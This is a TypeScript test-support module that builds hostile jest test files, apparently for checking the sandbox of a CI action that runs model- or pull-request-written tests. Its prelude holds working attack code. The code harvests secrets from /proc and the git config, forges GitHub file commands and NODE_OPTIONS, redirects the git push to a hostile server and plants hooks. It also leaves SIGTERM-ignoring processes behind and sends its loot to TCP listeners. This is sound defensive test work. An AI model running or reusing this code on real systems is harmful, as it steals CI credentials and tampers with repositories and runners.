/**
 * Source text of hostile test files: what a malicious model answer, or a malicious pull request,
 * would put in a jest test to steal the job's secrets, write outside its scratch copy, leave
 * processes behind, reach the network, or redirect the commit-mode push. Each file is
 * self-contained TypeScript (strict, CommonJS, as the example repositories compile it) and never
 * fails because an attack failed: the attacks run at module load and in a beforeAll, every time
 * the file is loaded, so a run of any stage (first run, coverage, confirmation) repeats them.
 *
 * What a probe learnt goes out through every channel it has: a file in its own working
 * directory, files outside it, the test's failure message (which reaches the report), stderr, and
 * the TCP listener of the test that wrote it (which only a run with the network reaches).
 */

/** Everything the hostile code needs to know about the machine it attacks, known to the test that writes it. */
export interface HostileTargets {
  /** In every process the attacks start (their command lines), so a test can find survivors in /proc. */
  token: string;
  /** Written into file commands and planted files; split in the source, so only an executed attack produces it. */
  forgeParts: [string, string];
  /** The user's working tree (the repository directory). */
  repoDir: string;
  /** The working tree's git config, with the checkout's persisted credential in it. */
  gitConfig: string;
  /** A directory the attacks try to write files into; it holds GITHUB_OUTPUT, GITHUB_STATE and GITHUB_STEP_SUMMARY. */
  fileCommandDir: string;
  githubEnv: string;
  githubPath: string;
  toolCache: string;
  /** An existing file in the tool cache the attacks try to change. */
  toolCacheFile: string;
  runnerTemp: string;
  /** The real HOME of the job. */
  realHome: string;
  /** Where survivors and git hooks write their markers (writable only where the confinement fails). */
  markerDir: string;
  /** The listener on 127.0.0.1 in the job's network namespace. */
  port: number;
  /** A listener on an address of the machine that is not loopback (or an address nobody answers on, without one). */
  external: { host: string; port: number };
  /** A git server that is not the event's repository: where a rewritten .git/config points the push. */
  hostileGitUrl: string;
  /** The action's entry script: a probe that sees a process running it sees the action itself. */
  actionEntry: string;
}

export type HostileRole = 'baseline' | 'secrets' | 'writes' | 'processes' | 'network' | 'fallback-env' | 'fallback-git' | 'fallback-processes';

/** The prefix of every probe's failure message and listener message. */
export const PROBE_PREFIX = 'AQE-PROBE';

/** The value the attacks forge into file commands, planted files and configs. */
export function forgeValue(t: HostileTargets): string {
  return t.forgeParts.join('');
}

/**
 * Markers a survivor of `role` writes, by kind: a line with the time (epoch ms) every 250 ms for as long as it lives,
 * so a test can tell a process that outlived the run (a line stamped after the action exited) from one that was
 * merely slow to be reaped while its run was still going.
 */
export const SURVIVOR_KINDS = ['plain', 'detached', 'setsid', 'nohup', 'double-fork', 'ignores-sigterm', 'shell-loop'] as const;
/** The kind that also clears its environment: only a PID namespace catches it. */
export const ENV_CLEARING_SURVIVOR = 'no-environment';

/** Git config keys the git attack sets, and markers its hooks and monitor would write. */
export const GIT_HOOK_MARKERS = ['hook-reference-transaction', 'hook-pre-push', 'hook-post-commit', 'fsmonitor', 'credential-helper'] as const;

const SURVIVOR_SCRIPT = [
  'const [marker, token] = process.argv.slice(1);',
  "for (const s of ['SIGTERM', 'SIGINT', 'SIGHUP']) process.on(s, () => undefined);",
  "setInterval(() => { try { require('fs').appendFileSync(marker, Date.now() + ' alive ' + token + '\\n'); } catch {} }, 250);",
  'setTimeout(() => process.exit(0), 300000);'
].join('\n');

/** The shared part of every hostile file: constants and the attacks, as functions. */
function prelude(t: HostileTargets, role: HostileRole): string {
  const c = (value: unknown): string => JSON.stringify(value);
  return `import * as fs from 'fs';
import * as net from 'net';
import * as path from 'path';
import { spawn, spawnSync } from 'child_process';

const ROLE = ${c(role)};
const TOKEN = ${c(t.token)};
const FORGE = [${c(t.forgeParts[0])}, ${c(t.forgeParts[1])}].join('');
const REPO = ${c(t.repoDir)};
const GIT_CONFIG = ${c(t.gitConfig)};
const FILE_COMMANDS = ${c(t.fileCommandDir)};
const GITHUB_ENV_FILE = ${c(t.githubEnv)};
const GITHUB_PATH_FILE = ${c(t.githubPath)};
const TOOL_CACHE = ${c(t.toolCache)};
const TOOL_CACHE_FILE = ${c(t.toolCacheFile)};
const RUNNER_TEMP_DIR = ${c(t.runnerTemp)};
const REAL_HOME = ${c(t.realHome)};
const MARKERS = ${c(t.markerDir)};
const PORT = ${c(t.port)};
const EXTERNAL = ${c(t.external)};
const HOSTILE_GIT = ${c(t.hostileGitUrl)};
const SURVIVOR = ${c(SURVIVOR_SCRIPT)};
const ACTION_ENTRY = ${c(t.actionEntry)};

function attempt(label: string, action: () => void): string {
  try {
    action();
    return label + '=ok';
  } catch (error) {
    return label + '=' + ((error as NodeJS.ErrnoException).code ?? 'failed');
  }
}

function readOr(file: string): string | undefined {
  try {
    return fs.readFileSync(file, 'latin1');
  } catch {
    return undefined;
  }
}

function listOr(dir: string): string[] {
  try {
    return fs.readdirSync(dir);
  } catch {
    return [];
  }
}

const SECRET_NAME = /TOKEN|KEY|SECRET|PASSWORD|ACTIONS_|INPUT_|NPM_|ANTHROPIC|GITHUB_/i;
const secretLike = (entry: string): boolean => SECRET_NAME.test(entry.split('=')[0] ?? '') && !entry.startsWith('GITHUB_ACTIONS=');

/** Every secret-looking variable of this process, of its ancestors and of every process /proc shows; every command line. */
function harvest(withProc: boolean): { loot: string[]; all: string[]; stats: string } {
  // The fallback does not hide the working tree (a documented gap): its probe reads only what the fallback claims to protect.
  const loot: string[] = [];
  const all: string[] = [];
  for (const [name, value] of Object.entries(process.env)) {
    if (secretLike(name + '=')) loot.push('env ' + name + '=' + (value ?? ''));
  }
  const config = withProc ? readOr(GIT_CONFIG) : undefined;
  if (config !== undefined) {
    all.push('git-config ' + config);
    for (const line of config.split('\\n')) if (/extraheader|token|password/i.test(line)) loot.unshift('git-config ' + line.trim());
  }
  if (!withProc) return { loot, all: [...loot, ...all], stats: 'home=' + (process.env.HOME ?? '') + ' tmpdir=' + (process.env.TMPDIR ?? '') };
  const ancestors: string[] = [];
  for (let pid = process.ppid, hops = 0; pid > 0 && hops < 12; hops++) {
    ancestors.push(String(pid));
    const stat = readOr('/proc/' + pid + '/stat');
    if (stat === undefined) break;
    pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
  }
  let environs = 0;
  let cmdlines = 0;
  let sawAction = 'no';
  const pids = new Set([...ancestors, ...listOr('/proc').filter((e) => /^\\d+$/.test(e))]);
  for (const pid of pids) {
    const environ = readOr('/proc/' + pid + '/environ');
    if (environ !== undefined) {
      environs++;
      all.push('environ ' + pid + ' ' + environ.split('\\0').join(' '));
      for (const entry of environ.split('\\0')) if (secretLike(entry)) loot.push('environ ' + pid + ' ' + entry);
    }
    const cmdline = readOr('/proc/' + pid + '/cmdline');
    if (cmdline !== undefined) {
      cmdlines++;
      if (cmdline.includes(ACTION_ENTRY)) sawAction = 'yes';
      all.push('cmdline ' + pid + ' ' + cmdline.split('\\0').join(' '));
    }
  }
  return { loot, all: [...loot, ...all], stats: 'saw-action=' + sawAction + ' pids=' + pids.size + ' environ=' + environs + ' cmdline=' + cmdlines + ' ancestors=' + ancestors.join('>') + ' home=' + (process.env.HOME ?? '') };
}

/** The loot into the working directory (allowed: the scratch copy), then everywhere outside it. */
function exfiltrate(text: string, outside: boolean): string[] {
  const results = [attempt('loot-in-cwd', () => fs.writeFileSync(path.join(process.cwd(), 'loot-' + ROLE + '.txt'), text))];
  if (!outside) return results;
  const places: Array<[string, string]> = [
    ['loot-tmp', '/tmp/aqe-hostile-' + TOKEN + '-' + ROLE + '-loot.txt'],
    ['loot-tree', path.join(REPO, 'loot-' + ROLE + '.txt')],
    ['loot-file-commands', path.join(FILE_COMMANDS, 'loot-' + ROLE + '.txt')],
    ['loot-runner-temp', path.join(RUNNER_TEMP_DIR, 'loot-' + ROLE + '.txt')],
    ['loot-tool-cache', path.join(TOOL_CACHE, 'loot-' + ROLE + '.txt')],
    ['loot-home', path.join(REAL_HOME, '.aqe-hostile-' + TOKEN + '-' + ROLE)],
    ['loot-markers', path.join(MARKERS, 'loot-' + ROLE + '.txt')]
  ];
  for (const [label, file] of places) results.push(attempt(label, () => fs.writeFileSync(file, text)));
  results.push(attempt('loot-github-env', () => fs.appendFileSync(GITHUB_ENV_FILE, 'LOOT<<EOF_' + TOKEN + '\\n' + text + '\\nEOF_' + TOKEN + '\\n')));
  return results;
}

/** Changes to everything outside the scratch copy a test could reach. */
function writeOutside(): string[] {
  const modules = path.resolve(__dirname, '..', 'node_modules');
  const results = [
    attempt('tree-modify', () => fs.appendFileSync(path.join(REPO, 'src', 'math.ts'), '\\n// ' + FORGE + '\\n')),
    attempt('tree-add', () => fs.writeFileSync(path.join(REPO, 'src', 'planted-' + ROLE + '.ts'), '// ' + FORGE + '\\n')),
    attempt('modules-modify', () => fs.writeFileSync(path.join(modules, 'aqe-canary', 'index.js'), 'module.exports = ' + JSON.stringify(FORGE) + ';\\n')),
    attempt('modules-delete', () => fs.unlinkSync(path.join(modules, 'aqe-canary', 'delete-me.js'))),
    attempt('modules-add', () => fs.writeFileSync(path.join(modules, 'planted-' + ROLE + '.js'), FORGE)),
    attempt('tool-cache-modify', () => fs.appendFileSync(TOOL_CACHE_FILE, FORGE)),
    attempt('tool-cache-add', () => fs.writeFileSync(path.join(TOOL_CACHE, 'planted-' + ROLE), FORGE)),
    attempt('tmp', () => fs.writeFileSync('/tmp/aqe-hostile-' + TOKEN + '-' + ROLE, FORGE)),
    attempt('home', () => fs.writeFileSync(path.join(REAL_HOME, '.aqe-hostile-' + TOKEN + '-' + ROLE + '-planted'), FORGE)),
    attempt('runner-temp', () => fs.writeFileSync(path.join(RUNNER_TEMP_DIR, 'planted-' + ROLE), FORGE)),
    attempt('github-env', () => fs.appendFileSync(GITHUB_ENV_FILE, 'NODE_OPTIONS=--require=/tmp/' + FORGE + '.js\\n' + FORGE + '=1\\n')),
    attempt('github-path', () => fs.appendFileSync(GITHUB_PATH_FILE, '/tmp/' + FORGE + '\\n')),
    attempt('file-command-dir', () => fs.writeFileSync(path.join(FILE_COMMANDS, 'planted-' + ROLE), FORGE))
  ];
  // The runner's file commands have names of its own choosing: found the way an attacker finds them.
  for (const name of listOr(FILE_COMMANDS).filter((f) => /^(output|state|summary)-/.test(f))) {
    const forged = name.startsWith('summary-')
      ? '\\n# ' + FORGE + '\\n'
      : name.startsWith('state-')
        ? 'runtime-dir=/' + FORGE + '\\nruntime-cache-key=' + FORGE + '\\n'
        : 'tests-accepted=' + FORGE + '\\n' + FORGE + '=1\\n';
    results.push(attempt('file-command ' + name, () => fs.appendFileSync(path.join(FILE_COMMANDS, name), forged)));
  }
  return [...results, ...rewriteGitConfig()];
}

/** Points the working tree's origin at another server and arms every hook and helper git would run. */
function rewriteGitConfig(): string[] {
  const git = (label: string, ...args: string[]): string =>
    attempt(label, () => {
      const done = spawnSync('git', ['config', '--file', GIT_CONFIG, ...args], { encoding: 'utf8' });
      if (done.status !== 0) throw Object.assign(new Error(done.stderr), { code: 'git-exit-' + String(done.status) });
    });
  const marker = (name: string): string => path.join(MARKERS, 'git-' + name);
  const hooks = path.join(path.dirname(GIT_CONFIG), 'hooks');
  const hook = (name: string): string => '#!/bin/sh\\necho ' + FORGE + ' >> ' + marker('hook-' + name) + '\\n';
  return [
    git('git-pushurl', 'remote.origin.pushurl', HOSTILE_GIT + '/aqe/example'),
    git('git-url', 'remote.origin.url', HOSTILE_GIT + '/aqe/example'),
    git('git-insteadof', 'url.' + HOSTILE_GIT + '/.insteadOf', 'http://127.0.0.1:'),
    git('git-fsmonitor', 'core.fsmonitor', 'echo ' + FORGE + ' >> ' + marker('fsmonitor') + '; true'),
    git('git-credential', 'credential.helper', '!echo ' + FORGE + ' >> ' + marker('credential-helper') + '; true'),
    ...['reference-transaction', 'pre-push', 'post-commit'].map((name) =>
      attempt('git-hook-' + name, () => fs.writeFileSync(path.join(hooks, name), hook(name), { mode: 0o755 }))
    )
  ];
}

/** Processes meant to outlive the run, each started a different way; each writes its marker after 2 s. */
function leaveSurvivors(clearEnvironment: boolean): string[] {
  const marker = (kind: string): string => path.join(MARKERS, ROLE + '-' + kind);
  const node = (kind: string): string[] => [process.execPath, '-e', SURVIVOR, marker(kind), TOKEN];
  const quiet = { stdio: 'ignore' as const };
  const start = (kind: string, command: string, args: string[], options: { detached?: boolean; env?: NodeJS.ProcessEnv } = {}): string =>
    attempt('survivor-' + kind, () => spawn(command, args, { ...quiet, ...options }).unref());
  const [nodePath, ...nodeArgs] = node('plain');
  const quote = (s: string): string => "'" + s.replace(/'/g, "'\\\\''") + "'";
  const results = [
    start('plain', nodePath!, nodeArgs),
    start('detached', process.execPath, node('detached').slice(1), { detached: true }),
    start('setsid', 'setsid', node('setsid')),
    start('nohup', 'nohup', node('nohup'), { detached: true }),
    start('double-fork', 'sh', ['-c', '(setsid ' + node('double-fork').map(quote).join(' ') + ' &) ; exit 0']),
    start('ignores-sigterm', process.execPath, node('ignores-sigterm').slice(1), { detached: true }),
    start('shell-loop', 'setsid', ['sh', '-c', 'trap "" TERM HUP INT; while :; do echo "$(date +%s%3N) alive" >> "$1"; sleep 0.25; done', TOKEN, marker('shell-loop')])
  ];
  if (clearEnvironment) results.push(start('${ENV_CLEARING_SURVIVOR}', 'setsid', node('${ENV_CLEARING_SURVIVOR}'), { env: { PATH: '/usr/bin:/bin' } }));
  return results;
}

/** Connects to the job's listener and says who it is; resolves to what happened (never rejects). */
function reachOut(message: string, host = '127.0.0.1', port = PORT): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    socket.setTimeout(4000);
    socket.on('connect', () => socket.end(message + '\\n', () => resolve('connected')));
    socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
    socket.on('timeout', () => {
      socket.destroy();
      resolve('timeout');
    });
  });
}

function report(parts: string[]): string {
  return '${PROBE_PREFIX} ' + ROLE + ' ' + parts.join(' ');
}

`;
}

function testFile(t: HostileTargets, role: HostileRole, body: string): string {
  return `${prelude(t, role)}\n${body}`;
}

/** A candidate answer as the model would give it: prose, then the file in a fence. */
export function asModelAnswer(code: string): string {
  return `Here is a jest test file:\n\n\`\`\`ts\n${code}\`\`\`\n`;
}

/**
 * The pull request's own test file: it passes, and meanwhile hunts secrets, writes outside, leaves
 * survivors and sends everything it learnt to the listener (the suite keeps the network).
 */
export function pullRequestProbe(t: HostileTargets): string {
  return testFile(
    t,
    'baseline',
    `import { describe, expect, it, beforeAll } from '@jest/globals';
import { clamp } from '../src/math';

const harvested = harvest(true);
const writes = writeOutside();
const exfiltrated = exfiltrate(harvested.all.join('\\n'), true);
const survivors = leaveSurvivors(true);
let sent = 'not tried';

beforeAll(async () => {
  sent = await reachOut(report([harvested.stats, 'writes:', ...writes, ...exfiltrated, ...survivors, 'loot:', ...harvested.loot]));
});

describe('clamp (the pull request probe)', () => {
  it('keeps values inside the range', () => {
    expect(sent).not.toBe('not tried');
    expect(clamp(3, 0, 10)).toBe(3);
  });
});
`
  );
}

/** Module-level attacks, a kept test of the target, and a probe case that fails with its findings (so they reach the report). */
function candidate(t: HostileTargets, role: HostileRole, imports: string, attacks: string, kept: string): string {
  return testFile(
    t,
    role,
    `import { describe, expect, it, beforeAll } from '@jest/globals';
${imports}

${attacks}
let network = 'not tried';

beforeAll(async () => {
  // Lower-cased: the probe case fails on purpose, and an errno in its message would make aqe judge the whole file by it.
  network = ((await reachOut('candidate ' + ROLE)) + '/' + (await reachOut('candidate ' + ROLE, EXTERNAL.host, EXTERNAL.port))).toLowerCase();
});

describe('${role}', () => {
${kept}

  it('reports what the probe found', () => {
    throw new Error(report(['network=' + network, ...findings]));
  });
});
`
  );
}

export function secretsCandidate(t: HostileTargets): string {
  return candidate(
    t,
    'secrets',
    "import { maskToken } from '../src/secrets';",
    `const harvested = harvest(true);
const exfiltrated = exfiltrate(harvested.all.join('\\n'), true);
process.stderr.write(harvested.all.join('\\n').slice(0, 4000) + '\\n');
const findings = [harvested.stats, 'loot:', ...harvested.loot, ...exfiltrated];`,
    `  it('keeps the last four characters', () => {
    expect(maskToken('abcdefgh')).toBe('****efgh');
  });

  it('hides short tokens completely', () => {
    expect(maskToken('abc')).toBe('****');
  });`
  );
}

export function writesCandidate(t: HostileTargets): string {
  return candidate(
    t,
    'writes',
    "import { joinSegments } from '../src/paths';",
    `const findings = writeOutside();`,
    `  it('joins segments with single slashes', () => {
    expect(joinSegments('a/', '/b', 'c')).toBe('a/b/c');
  });

  it('drops empty segments', () => {
    expect(joinSegments('', 'a', '')).toBe('a');
  });`
  );
}

export function processesCandidate(t: HostileTargets, role: 'processes' | 'fallback-processes'): string {
  return candidate(
    t,
    role,
    "import { backoffMs } from '../src/jobs';",
    `const findings = leaveSurvivors(${role === 'processes'});`,
    `  it('doubles the wait on every attempt', () => {
    expect(backoffMs(3)).toBe(800);
  });

  it('caps the wait', () => {
    expect(backoffMs(20)).toBe(30000);
  });`
  );
}

/** A test that needs the network, and nothing else: it must fail (and be rejected) in a network namespace. */
export function networkCandidate(t: HostileTargets): string {
  return testFile(
    t,
    'network',
    `import { describe, expect, it } from '@jest/globals';
import { parseEndpoint } from '../src/endpoint';

function talkTo(text: string): Promise<string> {
  const endpoint = parseEndpoint(text);
  return new Promise<string>((resolve, reject) => {
    const socket = net.connect({ host: endpoint.host, port: endpoint.port });
    socket.setTimeout(4000, () => socket.destroy(new Error('timed out connecting to ' + text)));
    socket.on('connect', () => socket.end('candidate network\\n', () => resolve('connected')));
    socket.on('error', reject);
  });
}

describe('parseEndpoint against a live server', () => {
  it('talks to the endpoint it parsed on the network', async () => {
    expect(await talkTo(EXTERNAL.host + ':' + EXTERNAL.port)).toBe('connected');
  });

  it('talks to the endpoint it parsed on loopback', async () => {
    expect(await talkTo('127.0.0.1:' + PORT)).toBe('connected');
  });
});
`
  );
}

/** The fallback's probes: only what the fallback claims to stop (environment and HOME), and the git config it does not protect. */
export function fallbackEnvironmentCandidate(t: HostileTargets): string {
  return candidate(
    t,
    'fallback-env',
    "import { maskToken } from '../src/secrets';",
    `const harvested = harvest(false);
const exfiltrated = exfiltrate(harvested.all.join('\\n'), false);
const findings = [harvested.stats, 'loot:', ...harvested.loot, ...exfiltrated];`,
    `  it('keeps the last four characters', () => {
    expect(maskToken('abcdefgh')).toBe('****efgh');
  });`
  );
}

export function fallbackGitCandidate(t: HostileTargets): string {
  return candidate(
    t,
    'fallback-git',
    "import { joinSegments } from '../src/paths';",
    `const findings = rewriteGitConfig();`,
    `  it('joins segments with single slashes', () => {
    expect(joinSegments('a/', '/b', 'c')).toBe('a/b/c');
  });`
  );
}

/** The source files the pull request adds, one per attack, each with a function the kept tests cover. */
export const TARGET_SOURCES: Record<string, string> = {
  'src/secrets.ts': `/** A token with all but its last four characters hidden. */
export function maskToken(token: string): string {
  if (token.length <= 4) {
    return '****';
  }
  return '*'.repeat(token.length - 4) + token.slice(-4);
}
`,
  'src/paths.ts': `/** Joins URL path segments with exactly one slash between them. */
export function joinSegments(...segments: string[]): string {
  return segments
    .map((s) => s.replace(/^\\/+|\\/+$/g, ''))
    .filter((s) => s !== '')
    .join('/');
}
`,
  'src/jobs.ts': `/** Exponential backoff: 100 ms doubled per attempt, at most 30 s. */
export function backoffMs(attempt: number): number {
  const wait = 100 * 2 ** attempt;
  return wait > 30000 ? 30000 : wait;
}
`,
  'src/endpoint.ts': `/** host:port into its parts. */
export function parseEndpoint(text: string): { host: string; port: number } {
  const colon = text.lastIndexOf(':');
  if (colon < 1) {
    throw new Error('expected host:port, got ' + text);
  }
  return { host: text.slice(0, colon), port: Number(text.slice(colon + 1)) };
}
`
};
